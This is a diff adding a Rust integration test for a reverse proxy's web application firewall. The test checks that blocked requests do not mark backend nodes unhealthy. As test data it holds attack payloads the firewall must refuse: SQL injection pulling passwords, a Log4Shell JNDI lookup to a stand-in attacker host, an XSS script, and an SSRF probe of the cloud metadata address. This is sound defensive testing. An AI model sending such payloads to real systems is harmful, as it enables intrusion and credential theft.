@@ -268,3 +268,72 @@ async fn unknown_waf_keys_and_bad_values_are_config_errors() {
     assert!(err.contains("waf.mode"), "{err}");
     assert!(err.contains("waf.exclusions[0].rules[0]"), "{err}");
 }
+
+/// A request bext refused never reached a node: WAF blocks (head and body
+/// phase, the latter after the node connection is open) must not count as
+/// node failures or touch node health, or an attacker could push a healthy
+/// node toward unhealthy. A LiveView long-poll join from a site reached by
+/// its IP passes.
+#[tokio::test]
+async fn waf_refusals_are_not_node_failures() {
+    let (bext, _origin) = start(r#"mode = "block""#, "").await;
+    let attacks = [
+        get(
+            "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+            "",
+        ),
+        post(
+            "/api/posts",
+            "application/json",
+            r#"{"title":"${jndi:ldap://evil.example/a}"}"#,
+        ),
+        post(
+            "/posts",
+            "application/x-www-form-urlencoded",
+            "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+        ),
+        post(
+            "/fetch",
+            "application/x-www-form-urlencoded",
+            "u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
+        ),
+    ];
+    for _ in 0..5 {
+        for req in &attacks {
+            assert_eq!(raw_request(bext.addr(), req).await.status, 403);
+        }
+    }
+    let join = r#"["4","4","lv:phx-F1ab","phx_join",{"url":"http://127.0.0.1:8080/counter","params":{"_csrf_token":"KMGw1NEf","_track_static":["http://127.0.0.1:8080/assets/app.css"],"_mounts":0},"session":"SFMyNTY.8VnF","static":"SFMyNTY.URxt"}]"#;
+    let longpoll = post("/live/longpoll?vsn=2.0.0", "application/x-ndjson", join);
+    assert_eq!(raw_request(bext.addr(), &longpoll).await.status, 200);
+    let resp = raw_request(bext.addr(), &get("/__bext/upstreams", "")).await;
+    assert_eq!(resp.status, 200);
+    let v: serde_json::Value = serde_json::from_slice(&resp.body).expect("upstreams json");
+    let text = v.to_string();
+    let mut nodes = 0;
+    let mut stack = vec![&v];
+    while let Some(x) = stack.pop() {
+        match x {
+            serde_json::Value::Object(o) => {
+                if let Some(f) = o.get("failures") {
+                    nodes += 1;
+                    assert_eq!(
+                        f.as_u64(),
+                        Some(0),
+                        "a WAF block counted as a node failure: {text}"
+                    );
+                    assert_eq!(
+                        o.get("healthy"),
+                        Some(&serde_json::Value::Bool(true)),
+                        "{text}"
+                    );
+                    assert!(o.get("last_error").is_none_or(|e| e.is_null()), "{text}");
+                }
+                stack.extend(o.values());
+            }
+            serde_json::Value::Array(a) => stack.extend(a),
+            _ => {}
+        }
+    }
+    assert!(nodes >= 1, "no node in {text}");
+}
